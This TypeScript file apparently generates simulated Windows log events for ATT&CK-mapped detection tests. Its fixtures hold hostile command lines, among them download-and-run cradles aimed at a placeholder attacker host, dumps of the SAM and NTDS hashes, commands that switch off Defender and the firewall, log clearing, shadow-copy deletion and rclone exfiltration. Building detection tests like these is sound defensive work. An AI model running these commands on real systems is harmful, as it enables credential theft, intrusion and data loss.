import type { AtomicTest, Scene } from '../atomic-test.ts'
import { logged, ran, script, security, sysmon } from './records.ts'

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
const RUN_KEY = 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'

type Row = Omit<AtomicTest, 'platform' | 'format'>

const ROWS: readonly Row[] = [
  {
    ...{ id: 'windows-encoded-powershell', technique: 'T1059.001', techniqueName: 'PowerShell', tactic: 'execution' },
    name: 'PowerShell runs a command that is given as base64',
    description: 'What PowerShell is told to do is hidden from whoever reads the command line.',
    events: (x) => [
      ran(
        x,
        POWERSHELL,
        `powershell -nop -w hidden -enc ${Buffer.from(`whoami #${x.marker}`, 'utf16le').toString('base64')}`,
      ),
    ],
  },
  {
    ...{ id: 'windows-download-cradle', technique: 'T1105', techniqueName: 'Ingress Tool Transfer' },
    ...{ tactic: 'command-and-control', name: 'A script is fetched and run in one line' },
    description: 'Nothing is written to disk: PowerShell downloads a text and runs it.',
    events: (x) => [
      ran(
        x,
        POWERSHELL,
        `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://${x.attackerIp}/a.ps1')"`,
      ),
    ],
  },
  {
    ...{ id: 'windows-office-starts-powershell', technique: 'T1204.002', techniqueName: 'Malicious File' },
    ...{ tactic: 'execution', name: 'A document starts PowerShell' },
    description: 'Somebody opened a document with a macro.',
    events: (x) => [ran(x, POWERSHELL, `powershell -w hidden -c iwr http://${x.attackerIp}/a`, WORD)],
  },
  {
    ...{ id: 'windows-mshta-remote', technique: 'T1218.005', techniqueName: 'Mshta', tactic: 'defense-evasion' },
    name: 'mshta runs a page from the network',
    description: 'A signed program of Windows runs what it is given an address of.',
    events: (x) => [ran(x, 'mshta.exe', `mshta http://${x.attackerIp}/page.hta`)],
  },
  {
    ...{
      id: 'windows-regsvr32-scriptlet',
      technique: 'T1218.010',
      techniqueName: 'Regsvr32',
      tactic: 'defense-evasion',
    },
    name: 'regsvr32 runs a scriptlet from the network',
    description: 'The program that registers libraries fetches a script and runs it.',
    events: (x) => [ran(x, 'regsvr32.exe', `regsvr32 /s /n /u /i:http://${x.attackerIp}/f.sct scrobj.dll`)],
  },
  {
    ...{
      id: 'windows-certutil-download',
      technique: 'T1140',
      techniqueName: 'Deobfuscate/Decode Files or Information',
    },
    ...{ tactic: 'defense-evasion', name: 'certutil fetches a file' },
    description: 'The program for certificates downloads a file and decodes it.',
    events: (x) => [
      ran(x, 'certutil.exe', `certutil -urlcache -split -f http://${x.attackerIp}/f.txt f.txt`),
      ran(x, 'certutil.exe', `certutil -decode f.txt f-${x.marker}.exe`, 'cmd.exe', 1),
    ],
  },
  {
    ...{ id: 'windows-bits-download', technique: 'T1197', techniqueName: 'BITS Jobs', tactic: 'persistence' },
    name: 'The background transfer service fetches a program',
    description: 'bitsadmin makes a job that downloads a program.',
    events: (x) => [
      ran(x, 'bitsadmin.exe', `bitsadmin /transfer j /download http://${x.attackerIp}/u.exe C:\\Users\\Public\\u.exe`),
    ],
  },
  {
    ...{ id: 'windows-lsass-read', technique: 'T1003.001', techniqueName: 'LSASS Memory', tactic: 'credential-access' },
    name: 'A program reads the memory of lsass',
    description: 'Something from a folder that anybody may write to opens lsass with the rights to read it.',
    events: (x) => [
      sysmon(x, 10, {
        ...{ SourceImage: 'C:\\Users\\Public\\m.exe', TargetImage: 'C:\\Windows\\System32\\lsass.exe' },
        GrantedAccess: '0x1410',
      }),
    ],
  },
  {
    ...{ id: 'windows-registry-hives', technique: 'T1003.002', techniqueName: 'Security Account Manager' },
    ...{ tactic: 'credential-access', name: 'The hive with the hashes of local accounts is saved' },
    description: 'reg save copies SAM and SYSTEM, out of which the hashes can be read elsewhere.',
    events: (x) => [
      ran(x, 'reg.exe', 'reg save HKLM\\SAM C:\\Users\\Public\\s.hiv'),
      ran(x, 'reg.exe', 'reg save HKLM\\SYSTEM C:\\Users\\Public\\y.hiv', 'cmd.exe', 1),
    ],
  },
  {
    ...{ id: 'windows-directory-database', technique: 'T1003.003', techniqueName: 'NTDS', tactic: 'credential-access' },
    name: 'The database of the directory is copied',
    description: 'ntdsutil writes a copy of the directory with all hashes in it.',
    events: (x) => [ran(x, 'ntdsutil.exe', 'ntdsutil "ac i ntds" "ifm" "create full C:\\Users\\Public\\n" q q')],
  },
  {
    ...{
      id: 'windows-directory-replication',
      technique: 'T1003.006',
      techniqueName: 'DCSync',
      tactic: 'credential-access',
    },
    name: 'A user asks the directory to replicate to it',
    description: 'Whoever may replicate gets every hash, as a domain controller does.',
    events: (x) => [
      security(x, 4662, {
        ...{ ObjectServer: 'DS', AccessMask: '0x100' },
        Properties: '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}',
      }),
    ],
  },
  {
    ...{ id: 'windows-weak-service-ticket', technique: 'T1558.003', techniqueName: 'Kerberoasting' },
    ...{ tactic: 'credential-access', name: 'A ticket of a service with the old cipher' },
    description: 'A ticket with RC4 can be cracked offline for the password of the service.',
    events: (x) => [
      security(x, 4769, {
        ...{
          TargetUserName: `${x.user}@EXERCISE.EXAMPLE`,
          TargetDomainName: 'EXERCISE.EXAMPLE',
          ServiceName: 'svc-sql',
        },
        ...{ TicketEncryptionType: '0x17', Status: '0x0', IpAddress: `::ffff:${x.hostIp}` },
      }),
    ],
  },
  {
    ...{ id: 'windows-password-spraying', technique: 'T1110.003', techniqueName: 'Password Spraying' },
    ...{ tactic: 'credential-access', name: 'One address fails to log on to many accounts' },
    description: 'A common password is tried on forty accounts within a minute, slowly enough that none is locked.',
    events: (x) => Array.from({ length: 40 }, (_, n) => refused(x, `${x.user}-${n}`, n)),
  },
  {
    ...{ id: 'windows-password-guessing', technique: 'T1110.001', techniqueName: 'Password Guessing' },
    ...{ tactic: 'credential-access', name: 'Many passwords for one account, and one that fits' },
    description: 'Forty failed logons of one account within a minute, and then one that works.',
    events: (x) => [
      ...Array.from({ length: 40 }, (_, n) => refused(x, x.user, n)),
      security(x, 4624, { ...account(x, x.user), LogonType: 3, IpAddress: x.attackerIp }, 45),
    ],
  },
  {
    ...{ id: 'windows-run-key', technique: 'T1547.001', techniqueName: 'Registry Run Keys / Startup Folder' },
    ...{ tactic: 'persistence', name: 'A program of a temporary folder starts with the session' },
    description: 'A value below the Run key names a program that was dropped.',
    events: (x) => [
      sysmon(x, 13, {
        ...{ EventType: 'SetValue', Image: 'C:\\Windows\\regedit.exe', TargetObject: `${RUN_KEY}\\Updater` },
        Details: `C:\\Users\\${x.user}\\AppData\\Local\\Temp\\u.exe`,
      }),
    ],
  },
  {
    ...{ id: 'windows-scheduled-task', technique: 'T1053.005', techniqueName: 'Scheduled Task', tactic: 'persistence' },
    name: 'A task runs a script again and again',
    description: 'schtasks makes a task that starts PowerShell every hour.',
    events: (x) => [
      ran(
        x,
        'schtasks.exe',
        'schtasks /create /sc hourly /tn Updater /tr "powershell -w hidden -f C:\\Users\\Public\\u.ps1"',
      ),
    ],
  },
  {
    ...{ id: 'windows-service-runs-command', technique: 'T1543.003', techniqueName: 'Windows Service' },
    ...{ tactic: 'persistence', name: 'A service that is a command' },
    description: 'A service is installed whose program is the command interpreter.',
    events: (x) => [
      logged(x, 'System', 7045, {
        ...{ ServiceName: 'BTOBTO', ImagePath: `%COMSPEC% /Q /c echo ${x.marker} ^> \\\\127.0.0.1\\C$\\__output` },
        ...{ ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' },
      }),
    ],
  },
  {
    ...{ id: 'windows-wmi-consumer', technique: 'T1546.003', tactic: 'persistence' },
    techniqueName: 'Windows Management Instrumentation Event Subscription',
    name: 'WMI is told to run a program',
    description: 'A consumer is made that runs a program whenever an event of WMI happens.',
    events: (x) => [
      sysmon(x, 20, {
        ...{ EventType: 'WmiConsumerEvent', Operation: 'Created', Name: '"u"', Type: 'Command Line' },
        Destination: '"C:\\\\Users\\\\Public\\\\u.exe"',
      }),
    ],
  },
  {
    ...{ id: 'windows-local-account', technique: 'T1136.001', techniqueName: 'Local Account', tactic: 'persistence' },
    name: 'An account is made',
    description: 'A local account that nobody ordered is created.',
    events: (x) => [
      security(x, 4720, { ...account(x, `${x.user}-helper`), TargetSid: 'S-1-5-21-1-2-3-1108' }),
      ran(x, 'net.exe', `net user ${x.user}-helper Passw0rd! /add`, 'cmd.exe', 1),
    ],
  },
  {
    ...{ id: 'windows-event-log-cleared', technique: 'T1070.001', techniqueName: 'Clear Windows Event Logs' },
    ...{ tactic: 'defense-evasion', name: 'The security log is cleared' },
    description: 'Traces are removed, and the log itself says so.',
    events: (x) => [security(x, 1102, {}), ran(x, 'wevtutil.exe', 'wevtutil cl Security', 'cmd.exe', 1)],
  },
  {
    ...{ id: 'windows-defender-off', technique: 'T1562.001', techniqueName: 'Disable or Modify Tools' },
    ...{ tactic: 'defense-evasion', name: 'Protection is switched off' },
    description: 'Real-time protection of Defender is disabled.',
    events: (x) => [
      logged(x, 'Microsoft-Windows-Windows Defender/Operational', 5001, {}),
      ran(x, POWERSHELL, 'powershell Set-MpPreference -DisableRealtimeMonitoring $true', 'cmd.exe', 1),
    ],
  },
  {
    ...{ id: 'windows-firewall-off', technique: 'T1562.004', techniqueName: 'Disable or Modify System Firewall' },
    ...{ tactic: 'defense-evasion', name: 'The firewall is switched off' },
    description: 'netsh turns the firewall of all profiles off.',
    events: (x) => [ran(x, 'netsh.exe', 'netsh advfirewall set allprofiles state off')],
  },
  {
    ...{ id: 'windows-reflective-load', technique: 'T1620', techniqueName: 'Reflective Code Loading' },
    ...{ tactic: 'defense-evasion', name: 'A script loads a program from memory' },
    description: 'PowerShell decodes an assembly and loads it without a file.',
    events: (x) => [script(x, '$b=[Convert]::FromBase64String($t); [System.Reflection.Assembly]::Load($b)')],
  },
  {
    ...{ id: 'windows-admin-share', technique: 'T1021.002', techniqueName: 'SMB/Windows Admin Shares' },
    ...{ tactic: 'lateral-movement', name: 'A program is written to the share of administrators' },
    description: 'A program is copied to ADMIN$ of another host, where it is to be run.',
    events: (x) => [
      security(x, 5145, {
        ...{ ShareName: '\\\\*\\ADMIN$', RelativeTargetName: 'u.exe', AccessList: '%%4417 %%4418' },
        ...{ IpAddress: x.hostIp, IpPort: '50001' },
      }),
    ],
  },
  {
    ...{ id: 'windows-wmic-remote', technique: 'T1047', techniqueName: 'Windows Management Instrumentation' },
    ...{ tactic: 'execution', name: 'WMI starts a process on another host' },
    description: 'wmic is told a node and what to run there.',
    events: (x) => [ran(x, 'wbem\\wmic.exe', `wmic /node:${x.hostIp} process call create "cmd /c whoami"`)],
  },
  {
    ...{ id: 'windows-domain-discovery', technique: 'T1087.002', techniqueName: 'Domain Account', tactic: 'discovery' },
    name: 'The administrators of the domain are listed',
    description: 'What an intruder asks first: who may do everything here.',
    events: (x) => [
      ran(x, 'net.exe', 'net group "Domain Admins" /domain'),
      ran(x, 'nltest.exe', 'nltest /domain_trusts', 'cmd.exe', 1),
    ],
  },
  {
    ...{ id: 'windows-archive-with-password', technique: 'T1560.001', techniqueName: 'Archive via Utility' },
    ...{ tactic: 'collection', name: 'Files are packed under a password' },
    description: 'Before data leaves, it is packed so that nobody on the way can look into it.',
    events: (x) => [
      ran(
        x,
        'C:\\Users\\Public\\rar.exe',
        `rar.exe a -hpSecret C:\\Users\\Public\\o.rar C:\\Users\\${x.user}\\Documents`,
      ),
    ],
  },
  {
    ...{ id: 'windows-copy-to-cloud', technique: 'T1567.002', techniqueName: 'Exfiltration to Cloud Storage' },
    ...{ tactic: 'exfiltration', name: 'Files are copied to a cloud storage' },
    description: 'rclone copies a share to somewhere outside.',
    events: (x) => [
      ran(x, 'C:\\Users\\Public\\rclone.exe', 'rclone.exe copy \\\\files\\finance mega:out --transfers 32'),
    ],
  },
  {
    ...{ id: 'windows-shadow-copies-deleted', technique: 'T1490', techniqueName: 'Inhibit System Recovery' },
    ...{ tactic: 'impact', name: 'Shadow copies are deleted' },
    description: 'What a ransom program does before it encrypts.',
    events: (x) => [
      ran(x, 'vssadmin.exe', 'vssadmin delete shadows /all /quiet'),
      ran(x, 'bcdedit.exe', 'bcdedit /set {default} recoveryenabled no', 'cmd.exe', 1),
    ],
  },
]

function account(_: Scene, name: string) {
  return { TargetUserName: name, TargetDomainName: 'EXERCISE' }
}

function refused(x: Scene, name: string, seconds: number) {
  const why = { LogonType: 3, IpAddress: x.attackerIp, Status: '0xc000006d', SubStatus: '0xc000006a' }
  return security(x, 4625, { ...account(x, name), ...why }, seconds)
}

export const WINDOWS_TESTS: readonly AtomicTest[] = ROWS.map((row) => ({
  ...row,
  platform: 'windows',
  format: 'windows',
}))
